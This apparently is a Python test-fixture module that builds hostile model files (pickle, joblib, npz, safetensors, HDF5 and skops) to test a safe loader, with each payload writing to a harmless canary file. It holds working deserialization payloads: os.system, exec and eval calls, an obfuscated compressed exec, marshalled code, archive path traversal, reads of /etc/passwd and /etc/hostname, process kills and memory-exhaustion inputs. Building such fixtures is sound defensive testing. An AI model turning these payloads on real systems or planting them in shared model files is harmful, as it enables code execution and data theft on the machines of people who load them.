"""Model files that try to do harm, or to break their reader. The harm: they write to a canary."""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import h5py
import numpy as np


class Hostile(NamedTuple):
    """One file. `acts`: loaded without care, it writes to the canary."""

    name: str
    format: str
    data: bytes
    acts: bool
    trusted: tuple[str, ...] = ()


class _Call:
    def __init__(self, function: Any, *arguments: Any) -> None:
        self._call = function, arguments

    def __reduce__(self) -> Any:
        return self._call


def _global(module: str, name: str, *arguments: str, protocol: int = 2) -> bytes:
    """Return the opcodes of a call of text arguments, without importing anything here."""
    texts = b"".join(b"X" + struct.pack("<I", len(a.encode())) + a.encode() for a in arguments)
    return b"\x80" + bytes([protocol]) + f"c{module}\n{name}\n".encode() + b"(" + texts + b"tR."


def _stack_global(parts: list[bytes], argument: str) -> bytes:
    words = b"".join(b"\x8c" + bytes([len(part)]) + part + b"\x94" for part in parts)
    return (
        b"\x80\x04" + words + b"\x93\x8c" + bytes([len(argument)]) + argument.encode() + b"\x85R."
    )


def pickles(canary: Path) -> Iterator[tuple[str, bytes, bool]]:
    """Yield name, bytes, and whether it acts."""
    shell, code = f"echo x >> {canary}", f"open({str(canary)!r}, 'a').write('x')"
    made = f"__import__('os').system({shell!r})"
    yield "os.system", _global("os", "system", shell), True
    yield "posix.system", _global("posix", "system", shell), True
    yield "nt by alias", _global("shutil", "os.system", shell, protocol=4), False
    yield "dotted name", _stack_global([b"shutil", b"os.system"], shell), True
    yield "exec", _global("builtins", "exec", code), True
    yield "eval", _global("builtins", "eval", made), True
    yield "old exec", _global("__builtin__", "exec", code, protocol=1), False
    yield "inst", f"(S{shell!r}\nios\nsystem\n.".encode(), True
    yield "obj", b"(cos\nsystem\nS" + repr(shell).encode() + b"\no.", True
    yield "stack global", _stack_global([b"os", b"system"], shell), True
    yield "subprocess", pickle.dumps(_Call(_import("subprocess", "getoutput"), shell)), True
    yield "timeit", pickle.dumps(_Call(_import("timeit", "timeit"), "pass", code)), True
    yield "runpy", pickle.dumps(_Call(_import("runpy", "_run_code"), compile_text(code), {})), False
    yield "cProfile", pickle.dumps(_Call(_import("cProfile", "run"), code)), True
    yield "numpy", pickle.dumps(_Call(_import("numpy.testing", "rundocs"), "none")), False
    inner = pickle.dumps(_Call(_import("os", "system"), shell))
    yield "pickle in pickle", pickle.dumps(_Call(pickle.loads, inner)), True
    packed = base64.b85encode(zlib.compress(code.encode())).decode()
    hidden = f"exec(__import__('zlib').decompress(__import__('base64').b85decode({packed!r})))"
    yield "compressed code", _global("builtins", "exec", hidden), True
    text = marshal.dumps(compile(code, "x", "exec"))
    yield "marshal", pickle.dumps(_Call(exec, _Call(marshal.loads, text))), True
    yield "deep in a model", pickle.dumps({"w": np.ones(3), "x": [(_Call(exec, code),)]}), True
    yield "set state", pickle.dumps(_State(code)), True
    yield "copy", pickle.dumps(_Call(_import("shutil", "copy"), "/etc/hostname", str(canary))), True
    yield "unlink", pickle.dumps(_Call(_import("os", "truncate"), str(canary), 1)), False
    yield "exit", pickle.dumps(_Call(_import("os", "_exit"), 0)), False
    yield "kill", pickle.dumps(_Call(exec, "import os; os.kill(os.getpid(), 9)")), False
    yield "extension code", b"\x80\x02\x82\x2a.", False
    yield "cut off", inner[:-20], False
    yield "long promise", b"\x80\x04\x8e" + struct.pack("<Q", 2**60) + b"x.", False
    yield "future protocol", b"\x80\xff.", False
    yield "nothing", b"", False
    yield "deep nest", b"\x80\x04" + b"(" * 100_000 + b".", False
    laughs = b"\x80\x04]\x94" + b"".join(b"(" + b"h\x00" * 9 + b"l\x94" for _ in range(3)) + b"."
    yield "laughs", laughs, False


class _State:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> Any:
        return _Call, (len, "x"), None, None, iter([("k", _Call(exec, self.code))])


def compile_text(code: str) -> str:
    """Return code as text where a code object is wanted: a wrong argument."""
    return code


def _import(module: str, name: str) -> Any:
    import importlib

    return getattr(importlib.import_module(module), name)


def _zip(members: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return made.getvalue()


def _npy(array: Any) -> bytes:
    made = io.BytesIO()
    np.save(made, array, allow_pickle=True)
    return made.getvalue()


def _lying_npy(shape: tuple[int, ...]) -> bytes:
    head = repr({"descr": "<f8", "fortran_order": False, "shape": shape}).encode() + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + b"\0" * 64


def npz_files(canary: Path) -> Iterator[tuple[str, bytes, bool]]:
    """Yield archives of arrays."""
    evil = _Call(exec, f"open({str(canary)!r}, 'a').write('x')")
    yield "pickled objects", _zip({"w.npy": _npy(np.array([evil], object))}), True
    yield "a single pickled array", _npy(np.array([evil], object)), True
    yield "outside", _zip({f"../../..{canary}": b"x", "w.npy": _npy(np.ones(1))}), False
    yield "lying shape", _zip({"w.npy": _lying_npy((2**40,))}), False
    yield "deep header", _zip({"w.npy": b"\x93NUMPY\x01\x00\xff\xff" + b"(" * 65535}), False
    yield "no archive", b"PK\x03\x04" + b"\0" * 100, False


def safetensors_files() -> Iterator[tuple[str, bytes, bool]]:
    """Yield files with broken headers."""

    def whole(header: Any, data: bytes = b"\0" * 16) -> bytes:
        text = json.dumps(header).encode()
        return struct.pack("<Q", len(text)) + text + data

    good = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    yield "huge header", struct.pack("<Q", 2**62) + b"{}", False
    yield "no JSON", struct.pack("<Q", 9) + b"not json!" + b"\0" * 8, False
    yield "overlap", whole({"a": good, "b": good}), False
    yield "beyond", whole({"a": {**good, "data_offsets": [0, 10**9]}}), False
    yield "overflow", whole({"a": {**good, "shape": [2**62, 2**62]}}), False
    yield "unknown type", whole({"a": {**good, "dtype": "Q99"}}), False
    yield "nothing", b"", False


def h5_files(canary: Path) -> Iterator[tuple[str, bytes, bool]]:
    """Yield HDF5 files; Keras' Lambda layer holds marshalled code."""
    code = marshal.dumps(compile(f"open({str(canary)!r}, 'a').write('x')", "x", "exec"))
    layer = {
        "class_name": "Lambda",
        "config": {"function": [base64.b64encode(code).decode(), None, None]},
    }
    model = {"class_name": "Sequential", "config": {"layers": [layer]}}

    def file(fill: Any) -> bytes:
        made = io.BytesIO()
        with h5py.File(made, "w") as opened:
            fill(opened)
        return made.getvalue()

    def keras(opened: Any) -> None:
        opened.attrs["model_config"] = json.dumps(model)
        opened.attrs["keras_version"] = "2.12.0"

    def external(opened: Any) -> None:
        opened["w"] = h5py.ExternalLink(str(canary), "/w")

    def raw(opened: Any) -> None:
        opened.create_dataset("w", (4,), "u1", external=[("/etc/passwd", 0, 4)])

    def loop(opened: Any) -> None:
        opened["w"] = h5py.SoftLink("/w")

    def objects(opened: Any) -> None:
        opened.create_dataset("w", data=["text"], dtype=h5py.string_dtype())

    yield "lambda layer", file(keras), False
    yield "external link", file(external), False
    yield "external storage", file(raw), False
    yield "link to itself", file(loop), False
    yield "objects", file(objects), False
    yield "cut off", file(keras)[:700], False
    yield "nothing", b"", False


def skops_files(canary: Path) -> Iterator[tuple[str, bytes, bool, tuple[str, ...]]]:
    """Yield skops files that ask for more than they may have."""
    shell = f"echo x >> {canary}"

    def archive(schema: Any, **members: bytes) -> bytes:
        return _zip({"schema.json": json.dumps(schema).encode(), **members})

    def node(**values: Any) -> dict[str, Any]:
        return {"__class__": "str", "__module__": "builtins", "__id__": 1, **values}

    text = node(__loader__="JsonNode", content=json.dumps(shell), is_json=True)
    one = {**node(), "protocol": 2, "_skops_version": "0.16.0"}
    call = {
        **one,
        "__class__": "system",
        "__module__": "os",
        "__loader__": "ObjectNode",
        "content": text,
    }
    partial = {
        **one,
        "__class__": "partial",
        "__module__": "functools",
        "__loader__": "PartialNode",
        "content": {
            "func": node(
                __class__="system",
                __module__="os",
                __loader__="FunctionNode",
                content={"module_path": "os", "function": "system"},
            ),
            "args": node(__loader__="TupleNode", __class__="tuple", content=[text]),
            "kwds": node(__loader__="DictNode", __class__="dict", content={}, key_types=[]),
            "namespace": node(__loader__="DictNode", __class__="dict", content={}, key_types=[]),
        },
    }
    array = {
        **one,
        "__class__": "ndarray",
        "__module__": "numpy",
        "__loader__": "NdArrayNode",
        "type": "numpy",
        "file": "w.npy",
    }
    evil = _npy(np.array([_Call(exec, f"open({str(canary)!r}, 'a').write('x')")], object))
    yield "os.system", archive(call), False, ()
    yield "os.system, another trusted", archive(call), False, ("sklearn.tree._tree.Tree",)
    yield "partial", archive(partial), False, ()
    yield "unknown loader", archive({**one, "__loader__": "EvilNode"}), False, ()
    yield "pickled array", archive(array, **{"w.npy": evil}), False, ()
    yield "outside", archive(array, **{f"../..{canary}": b"x"}), False, ()
    yield "no schema", _zip({"other.json": b"{}"}), False, ()
    yield "no JSON", _zip({"schema.json": b"{"}), False, ()


def hostile_files(canary: Path) -> list[Hostile]:
    """Return all of them."""
    found = [Hostile(n, "pickle", data, acts) for n, data, acts in pickles(canary)]
    found += [Hostile(n, "joblib", d, a) for n, d, a in list(pickles(canary))[:3]]
    found += [Hostile(n, "npz", data, acts) for n, data, acts in npz_files(canary)]
    found += [Hostile(n, "safetensors", data, acts) for n, data, acts in safetensors_files()]
    found += [Hostile(n, "h5", data, acts) for n, data, acts in h5_files(canary)]
    found += [Hostile(n, "skops", d, a, trusted) for n, d, a, trusted in skops_files(canary)]
    return found
